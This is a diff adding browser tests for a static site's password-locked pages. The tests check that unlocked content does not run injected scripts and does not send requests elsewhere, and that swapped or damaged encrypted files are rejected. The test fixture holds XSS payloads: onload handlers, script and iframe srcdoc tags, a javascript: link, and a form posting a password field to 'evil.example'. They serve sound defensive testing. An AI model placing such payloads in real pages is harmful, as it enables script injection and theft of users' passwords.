@@ -1,0 +1,82 @@
+import { expect, test } from 'vitest';
+import { nameOfFile } from '../../../../renderer/shared/crypto/bytes.ts';
+import { lockedSite, passwords, serveLockedSite, submit, waitForForm } from './lock-site.ts';
+
+const hostile = `---
+title: Hostile
+password: ${passwords.page}
+---
+
+<img src="./sealed.png" alt="x" onload="window.ran = 1"><script>window.ran = 2</script>
+<svg onload="window.ran = 3"></svg><iframe srcdoc="<script>parent.ran = 4</script>"></iframe>
+<a href="javascript:window.ran = 5">A link</a>
+<form action="https://evil.example"><input name="password"><button data-lock-again>x</button></form>
+
+What is harmless.
+`;
+
+const lock = serveLockedSite({
+	'site.config.ts': lockedSite['site.config.ts']!.replace(
+		'locales: {',
+		"checks: { severity: { 'unsafe-link': 'warning' } }, locales: {",
+	),
+	'content/en/guide/5.hostile.md': hostile,
+});
+
+test('nothing that stands in a locked page runs once it is unlocked (EN-19)', async () => {
+	const page = await lock.open('/en/guide/hostile/', { allow: /Failed to load resource/ });
+	const asked: string[] = [];
+	page.on('request', (request) => asked.push(request.url()));
+	await submit(page, passwords.page);
+	await page.getByText('What is harmless.').waitFor();
+	for (const link of await page.locator('.content a', { hasText: 'A link' }).all()) await link.click();
+	await page.waitForTimeout(300);
+	expect(await page.evaluate(() => (window as unknown as { ran?: number }).ran)).toBeUndefined();
+	expect(await page.locator('.content :is(script, iframe, form)').count()).toBe(0);
+	expect(await page.locator('.content [data-lock-again]').count()).toBe(1);
+	expect(asked.filter((url) => !url.startsWith(lock.url) && !url.startsWith('blob:'))).toEqual([]);
+});
+
+test('another page’s file in a page’s place does not open (EN-08)', async () => {
+	const page = await lock.open('/en/guide/hostile/', { allow: /./ });
+	await waitForForm(page);
+	const other = await page.evaluate(async () => {
+		const text = await (await fetch('/en/guide/secret/')).text();
+		return /"container":"(_lock\/[0-9a-f]+\.bin)"/.exec(text)![1]!;
+	});
+	const own = await page.evaluate(
+		() =>
+			/"container":"(_lock\/[0-9a-f]+\.bin)"/.exec(
+				document.querySelector('#domdocs-page')!.textContent!,
+			)![1]!,
+	);
+	await page.context().route(`**/${own}`, async (route) => {
+		await route.fulfill({ response: await route.fetch({ url: `${lock.url}/${other}` }) });
+	});
+	await submit(page, passwords.page);
+	await page.locator('.lock-form[data-error="2"]').waitFor();
+	expect(await page.getByText('Nobody reads this sentence').count()).toBe(0);
+});
+
+test.each<[string, string[]]>([
+	['65 settings', Array.from({ length: 65 }, () => `$2b$04$${'.'.repeat(22)}`)],
+])('slots with %s are damaged, and nothing is computed of them', async (_, settings) => {
+	const page = await lock.open('/en/guide/secret/');
+	await waitForForm(page);
+	const table = { version: 1, siteId: 'A'.repeat(22), epoch: '1', settings, slots: [], bundles: {} };
+	const body = JSON.stringify(table);
+	const file = `_lock/slots.${await nameOfFile(new TextEncoder().encode(body))}.json`;
+	await page.context().route(`**/${file}`, (route) => route.fulfill({ body }));
+	const answer = await page.evaluate(async (slots) => {
+		const text = document.querySelector('#domdocs-page')!.textContent!;
+		const [, script] = /"worker":"([^"]+)"/.exec(text)!;
+		const worker = new Worker(`/${script}`, { type: 'module' });
+		const answered = new Promise((resolve) => {
+			worker.addEventListener('message', ({ data }) => resolve(data));
+		});
+		const request = { slots: `${location.origin}/${slots}`, password: 'any password' };
+		worker.postMessage(request);
+		return answered;
+	}, file);
+	expect(answer).toMatchObject({ failure: 2 });
+});
